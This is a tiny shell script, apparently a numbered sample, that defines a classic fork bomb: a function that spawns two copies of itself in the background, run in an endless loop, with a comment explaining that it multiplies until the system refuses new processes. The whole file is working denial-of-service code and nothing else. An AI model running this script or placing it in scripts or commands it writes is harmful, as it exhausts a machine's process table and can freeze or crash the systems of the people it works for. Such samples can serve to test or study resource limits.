#!/bin/sh
# S3: a shell fork bomb: every copy starts two more, for ever (until forks are refused).
bomb() { bomb | bomb & }
while :; do bomb; done
